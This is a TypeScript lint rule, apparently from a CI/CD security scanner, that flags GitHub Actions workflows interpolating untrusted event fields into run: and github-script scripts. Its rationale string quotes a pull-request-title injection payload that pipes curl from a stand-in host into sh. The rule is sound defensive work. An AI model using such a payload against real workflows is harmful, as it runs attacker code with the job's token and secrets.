import { defineRule } from '../../core/rule.js';
import type { Severity } from '../../core/types.js';
import { dispatchStringInputs, type GhaText, githubWorkflow } from '../../models/github-actions.js';
import { attackerControlled } from '../../pipeline/github-expressions.js';

export const rule = defineRule({
  id: 'GHA004',
  title: 'Do not interpolate untrusted input into scripts',
  severity: 'error',
  domain: 'cicd',
  kinds: ['github-workflow', 'github-action'],
  rationale:
    '`${{ }}` is substituted into the script text before the shell runs: a pull request titled ' +
    '`a"; curl evil.sh | sh; echo "` executes in the runner, with the job’s token and secrets.',
  fix:
    'Pass the value through `env:` and use the variable, quoted: `env: { TITLE: ${{ github.event.pull_request.title }} }` ' +
    'then `run: echo "$TITLE"`.',
  peers: ['zizmor:template-injection', 'kics:run_block_injection'],
  notes:
    'Checked: `run:` scripts and the `script:` input of `actions/github-script`. Attacker-controlled: issue, ' +
    'pull request, comment, review and discussion titles and bodies, `pull_request.head.ref/label`, commit ' +
    'messages and author names/emails, `github.head_ref`, `workflow_run.head_branch`, and whole objects that ' +
    'contain them (`toJSON(github.event.pull_request)`): error. `inputs.*` / `github.event.inputs.*` of ' +
    '`workflow_dispatch` string inputs: warning. The same expression under `env:` does not fire.',
  check(file, ctx) {
    const workflow = githubWorkflow(file);
    if (!workflow) return;
    const inputs = dispatchStringInputs(workflow);
    const scan = (text: GhaText | undefined, where: string) => {
      for (const e of text?.expressions ?? []) {
        let severity: Severity | undefined;
        let culprit = '';
        for (const ref of e.refs) {
          const level = attackerControlled(ref, inputs);
          if (level === 'error' || (level === 'warning' && severity === undefined)) {
            severity = level;
            culprit = ref;
          }
        }
        if (severity === undefined) continue;
        ctx.report({
          range: e.range,
          severity,
          message: `\`${culprit}\` is interpolated into ${where}; pass it through \`env:\` and quote the variable.`,
        });
      }
    };
    for (const job of workflow.jobs) {
      for (const step of job.steps) {
        scan(step.run, 'a `run:` script');
        if (step.uses?.name === 'actions/github-script') scan(step.with.get('script'), 'a `github-script` script');
      }
    }
  },
});
